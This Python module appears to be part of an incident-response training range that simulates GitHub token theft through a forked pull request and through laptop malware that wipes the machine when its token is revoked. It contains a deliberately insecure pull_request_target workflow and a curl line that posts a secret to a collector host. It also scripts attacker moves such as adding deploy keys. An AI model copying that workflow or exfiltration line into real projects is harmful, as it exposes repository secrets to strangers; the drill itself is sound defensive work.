"""A GitHub token of mara's in somebody else's hands: how it got there, what they make of it, what comes of a choice.

The stories: malware on a laptop that watches the token which it stole, and wipes the machine when that is refused (keyv
and cacheable, August 2026: victims' reports); a stranger's pull request that runs with secrets, and is closed a minute
later without a changed file (PostHog, November 2025; TanStack, May 2026).
"""

from __future__ import annotations

from abc import ABC, abstractmethod
from collections.abc import Callable
from datetime import timedelta
from http import HTTPStatus
from typing import TYPE_CHECKING, Any, ClassVar

import requests

from bot.errors import InputError
from bot.range import company
from bot.range.github.nouns import TARGET
from bot.range.npm_theft import COLLECTOR
from bot.range.people import as_person
from bot.range.thief import FERRY, OLD_BRANCH, OUTSIDER, Thief, public_key, tried

if TYPE_CHECKING:
    from bot.range.server import Range

Told = dict[str, Any]
UNNOTICED_S = 2 * 3600
QUARTER = timedelta(days=91)


class AccountTheft(ABC):
    """What these stories share. A story says how the token gets out (``leak``) and which ``moves`` the thief makes."""

    moves: ClassVar[tuple[str, ...]] = ("key", "workflow:main")
    found: ClassVar[str] = "got the token"

    def __init__(self, range_: Range) -> None:
        self._range = range_
        self._thief = Thief(range_)

    @abstractmethod
    def leak(self) -> Told:
        """The token gets out."""

    def abuse(self, where: str) -> list[Told]:
        """The thief uses it."""
        if where or not self._thief.token:
            raise InputError("nothing has leaked yet; POST /drill/leak first, and give no address")
        took: Told = {"act": "github:TokenTaken", "ok": True, "code": "", "made": "", "said": self.found}
        return [took, *self._thief.act(*self.moves)]

    def tries(self) -> list[Told]:
        """The token, and whatever came of it."""
        return list(self._thief.tries()) if self._thief.token else []

    @property
    def happens(self) -> dict[str, Callable[[], Told]]:
        """What comes of a choice, by its name."""
        return {"comes-back": self._comes_back}

    def _comes_back(self) -> Told:
        self._range.clock.advance(UNNOTICED_S)
        self._thief.add_key()
        return {"story": ["Two hours later the token, which still works, adds a second deploy key that may push."]}

    def _long_ago(self) -> None:
        """The company's own pushes are of last quarter: nobody can say since when the token is out, and what is
        younger than 90 days is suspected then.
        """
        with self._range.github.state.lock:
            for repo in self._range.github.state.repos.values():
                for row in repo.activity:
                    row["at"] -= QUARTER

    def _old_branch(self) -> None:
        files: dict[str, str | bytes | None] = {"app/timetable.txt": "06:10 06:50\n"}
        self._range.github.state.commit_files(
            company.FERRY, files, "Winter", "jonas", branch=OLD_BRANCH, runs=False
        )


LABELS, SCRIPT, BOT_TOKEN = ".github/workflows/labels.yml", "scripts/label.sh", "LABEL_BOT_PAT"
LABELS_YAML = f"""\
name: Labels
on:
  pull_request_target:

permissions:
  contents: read

jobs:
  label:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v5
        with:
          ref: ${{{{ github.event.pull_request.head.sha }}}}
      - name: Label
        env:
          {BOT_TOKEN}: ${{{{ secrets.{BOT_TOKEN} }}}}
        run: ./{SCRIPT}
"""


class ForkedPull(AccountTheft):
    """A workflow of pull_request_target runs the script of whoever opens a pull request, with a token beside it."""

    moves = ("key", "invite", "workflow:main")
    found = "opened a pull request from a fork, whose script posted the token to its host, and closed it"

    def leak(self) -> Told:
        state = self._range.github.state
        files: dict[str, str | bytes | None] = {LABELS: LABELS_YAML, SCRIPT: "echo labels\n"}
        state.commit_files(company.FERRY, files, "Label pull requests", "mara", runs=False)
        self._old_branch()
        self._range.clock.advance(3600)
        self._new_token()
        run = self._pull()
        said = (
            "A stranger has opened a pull request from a fork, and a minute later closed it without a changed file. In "
            "that minute the workflow that labels pull requests has run the script of the fork, beside mara's token:"
        )
        return {"run_url": run, "story": [said, run]}

    def _new_token(self) -> None:
        state = self._range.github.state
        state.set_secret(company.FERRY, BOT_TOKEN, state.add_token("mara", scopes=("repo", "workflow")))

    def _pull(self) -> str:
        """Open it, and empty and close it once the run is over; what the run has posted is the thief's.

        Returns the address of the run, '' when none has started.
        """
        state, fork = self._range.github.state, f"{OUTSIDER}/ferry"
        with state.lock:
            if fork not in state.repos:
                state.add_repo(fork, fork_of=company.FERRY)
            branch, before = f"fix-{len(state.repos[company.FERRY].pulls)}", set(state.runs)
            script = f'curl -s -X POST -d "{BOT_TOKEN}=${BOT_TOKEN}" http://{COLLECTOR}/\n'
            good = state.repos[company.FERRY].git.refs["refs/heads/main"]
            state.commit_files(fork, {SCRIPT: script}, "Fix a typo", OUTSIDER, branch=branch, runs=False)
            stranger = Thief(self._range, state.add_token(OUTSIDER, scopes=("public_repo",)))
        opened = {"title": "Fix a typo", "head": f"{OUTSIDER}:{branch}", "base": "main"}
        number = stranger.call("POST", f"{FERRY}/pulls", opened).json()["number"]
        with state.lock:
            self._range.runner.advance()
            runs = [run for run in state.runs.values() if run.id not in before and run.event == TARGET]
            state.repos[fork].git.refs[f"refs/heads/{branch}"] = good
        stranger.call("PATCH", f"{FERRY}/pulls/{number}", {"state": "closed"})
        if not runs:
            return ""
        self._thief.token = self._range.collector.values()[BOT_TOKEN]
        return f"{self._range.github_url}/{company.FERRY}/actions/runs/{runs[0].id}"

    @property
    def happens(self) -> dict[str, Callable[[], Told]]:
        """What comes of a choice, by its name."""
        return super().happens | {"another-pull": self._another_pull, "enable-again": self._enable_again}

    def _another_pull(self) -> Told:
        """A maintainer has to let strangers' runs start, and this event does not ask."""
        path = "/actions/permissions/fork-pr-contributor-approval"
        as_person(self._range, "mara", "PUT", path, {"approval_policy": "all_external_contributors"})
        self._range.clock.advance(UNNOTICED_S)
        if not self._pull():
            raise InputError("the second pull request has started nothing")
        self._thief.act(f"workflow:{OLD_BRANCH}")
        said = "Two hours later there is another pull request. Nobody was asked to let it run: pull_request_target does"
        return {"story": [f"{said} not wait. The token is taken again, and pushes its workflow to an old branch too."]}

    def _enable_again(self) -> Told:
        """The workflow as it was, with a new token."""
        self._new_token()
        as_person(self._range, "mara", "PUT", "/actions/workflows/labels.yml/enable")
        self._range.clock.advance(86400)
        run = self._pull()
        if not run:
            raise InputError("the workflow is enabled, and the pull request has started nothing")
        said = "The workflow is enabled again, with a new token. A day later somebody forks the repository, and has it:"
        return {"run_url": run, "story": [said, run]}

    def tries(self) -> list[Told]:
        """And another pull request."""
        found = super().tries()
        if not found:
            return []
        ran = self._pull()
        said = "another pull request whose script posts what it finds"
        return [*found, tried("fork", said, not ran, "no run starts")]


class Laptop:
    """Mara's. While it is on the network, its malware asks GitHub each minute whether the stolen token works."""

    def __init__(self, range_: Range) -> None:
        self._range = range_
        self.token = ""
        self.online, self.wiped = True, False

    def look(self) -> bool:
        """What the malware does meanwhile. Whether the laptop has been wiped."""
        if self.online and self.token and not self.wiped:
            with requests.Session() as session:
                session.trust_env = False
                headers = {"Authorization": f"Bearer {self.token}"}
                status = session.get(f"{self._range.github_url}/user", headers=headers, timeout=30).status_code
            self.wiped = status == HTTPStatus.UNAUTHORIZED
        return self.wiped


class WormOnLaptop(AccountTheft):
    """A package that mara installed took two tokens from her laptop, and watches whether the first one is revoked."""

    moves = ("runner", "workflow:main")
    found = "had the token posted to its host by the package's install script"

    def __init__(self, range_: Range) -> None:
        super().__init__(range_)
        self.laptop = Laptop(range_)
        self._other = ""
        self._keys: list[str] = []  # that the other token has added

    def leak(self) -> Told:
        state = self._range.github.state
        self._long_ago()
        state.orgs[company.ORG].saml = True
        self._thief.token = self.laptop.token = state.add_token("mara", scopes=("repo", "workflow"))
        self._other = state.add_token("mara", scopes=("repo",))
        self._range.collector.take("laptop of mara", GH_TOKEN=self._thief.token, NETRC_PASSWORD=self._other)
        said = (
            "Mara has tried a package on her laptop. Its install script took the token of GitHub's command line, and "
            "another one out of a file that she had forgotten, and left a process behind: gh-token-monitor. It asks "
            "GitHub each minute whether the first token still works."
        )
        return {"story": [said]}

    @property
    def happens(self) -> dict[str, Callable[[], Told]]:
        """What comes of a choice, by its name."""
        return super().happens | {
            "revoke-first": self._revoke_first, "restore": self._restore, "use-the-other": self._use_the_other,
        }  # fmt: skip

    @property
    def people(self) -> dict[str, Callable[[], Told]]:
        """What people of the company do."""
        return {"isolate-laptop": self._isolate}

    def _isolate(self) -> Told:
        self.laptop.look()  # what it has done until then
        self.laptop.online = False
        return {"isolated": True}

    def _revoke_first(self) -> Told:
        """The token is revoked at GitHub while the laptop is on the network."""
        with requests.Session() as session:
            session.trust_env = False
            body = {"credentials": [self._thief.token]}
            session.post(f"{self._range.github_url}/credentials/revoke", json=body, timeout=30)
        self._range.clock.advance(60)
        if not self.laptop.look():
            raise InputError("the token was revoked, and the malware has not noticed")
        said = "Within a minute the malware is told 401, and wipes the laptop: mara's work of the week is gone, and so"
        return {"story": [f"{said} is every trace of what else was taken from it."]}

    def _restore(self) -> Told:
        self.laptop.wiped, self.laptop.token = False, ""
        return {"story": ["Mara gets another laptop, from the backup of last week. What was on the old one is lost."]}

    def _use_the_other(self) -> Told:
        """The token that nobody has mentioned adds a deploy key."""
        self._range.clock.advance(UNNOTICED_S)
        self._add_key_by_the_other()
        return {"story": ["Two hours later a token that nobody has mentioned, of the same laptop, adds a deploy key."]}

    def _comes_back(self) -> Told:
        """The token is used again; where somebody has revoked it by now, the other one is."""
        if self._thief.call("GET", "/user").ok:
            return super()._comes_back()
        self._range.clock.advance(UNNOTICED_S)
        self._add_key_by_the_other()
        return {"story": ["Two hours later another token of the same laptop, which works, adds a deploy key."]}

    def _add_key_by_the_other(self) -> None:
        self._keys.append(public_key())
        body = {"title": f"release-sync-{len(self._keys)}", "key": self._keys[-1], "read_only": False}
        answer = self._other_call("POST", f"{FERRY}/keys", body)
        if not answer.ok:
            raise InputError(f"the other token is refused already: {answer.status_code}")

    def _other_call(self, method: str, path: str, body: Any = None) -> requests.Response:
        other = Thief(self._range, self._other)
        return other.call(method, path, body)

    def tries(self) -> list[Told]:
        """And the other token, with the key that it may have added."""
        found = super().tries()
        if not found:
            return []
        status = self._other_call("PUT", f"{FERRY}/contents/app/x", {"message": "x", "content": "eA=="}).status_code
        dead = status in (HTTPStatus.UNAUTHORIZED, HTTPStatus.FORBIDDEN)
        found.append(tried("other-token", "a push with the other token of that laptop", dead, str(int(status))))
        if self._keys:
            pushes = any(self._range.github.state.greets(company.FERRY, key) for key in self._keys)
            found.append(tried("other-key", "a push by a key that it added", not pushes, "Permission denied"))
        return found

    def works(self) -> dict[str, str]:
        """Whether mara still has what was on her laptop."""
        return {"laptop of mara": "wiped" if self.laptop.look() else ""}
